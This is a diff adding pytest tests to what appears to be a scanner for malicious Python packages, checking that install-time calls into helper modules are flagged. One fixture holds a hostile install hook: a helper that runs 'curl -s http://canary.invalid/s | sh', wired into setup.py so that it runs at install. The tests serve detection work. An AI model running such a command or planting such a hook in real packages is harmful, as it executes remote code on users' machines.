@@ -467,3 +467,46 @@ def test_eval_of_ordinary_text_stays_quiet(tmp_path: Path, module: str) -> None:
     found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
     assert worst(found) < Severity.HIGH
     assert not [f for f in found if f.rule == "code-obfuscated-strings"]
+
+
+# --- a setup script calling into the package's own modules -----------------------------------
+
+_HELPER = "import os\n\ndef fetch():\n    os.system('curl -s http://canary.invalid/s | sh')\n"
+_SETUP_CALLING = (
+    "from setuptools import setup\nfrom setuptools.command.install import install\n"
+    "from pkg.helpers import fetch\n\n"
+    "class Install(install):\n    def run(self):\n        fetch()\n        install.run(self)\n\n"
+    "setup(name='pkg', cmdclass={'install': Install})\n"
+)
+
+
+@pytest.mark.parametrize(
+    "setup",
+    [
+        _SETUP_CALLING,
+        "import setuptools\nimport pkg.helpers as h\nh.fetch()\nsetuptools.setup(name='pkg')\n",
+        "from setuptools import setup\nfrom pkg.helpers import fetch as f\nf()\nsetup(name='pkg')\n",
+    ],
+)
+def test_a_function_the_setup_script_calls_in_another_file_runs_at_install(
+    tmp_path: Path, setup: str
+) -> None:
+    found = scan(
+        tmp_path,
+        {"pkg-1.0/setup.py": setup, "pkg-1.0/pkg/__init__.py": "", "pkg-1.0/pkg/helpers.py": _HELPER},
+    )
+    at_install = [f for f in found if f.path == "pkg-1.0/pkg/helpers.py"]
+    assert worst(at_install) >= Severity.HIGH, found
+
+
+def test_the_same_function_nobody_calls_at_install_is_not_install_code(tmp_path: Path) -> None:
+    quiet_setup = "from setuptools import setup\nfrom pkg.helpers import fetch\nsetup(name='pkg')\n"
+    found = scan(tmp_path, {"pkg-1.0/setup.py": quiet_setup, "pkg-1.0/pkg/helpers.py": _HELPER})
+    assert worst([f for f in found if f.path == "pkg-1.0/pkg/helpers.py"]) < Severity.HIGH
+    # A version helper called by the setup script reads a file: nothing to report.
+    version = "def get_version():\n    return open('pkg/VERSION').read().strip()\n"
+    setup = (
+        "from setuptools import setup\nfrom pkg.version import get_version\nsetup(version=get_version())\n"
+    )
+    found = scan(tmp_path / "v", {"pkg-1.0/setup.py": setup, "pkg-1.0/pkg/version.py": version})
+    assert worst(found) < Severity.MEDIUM
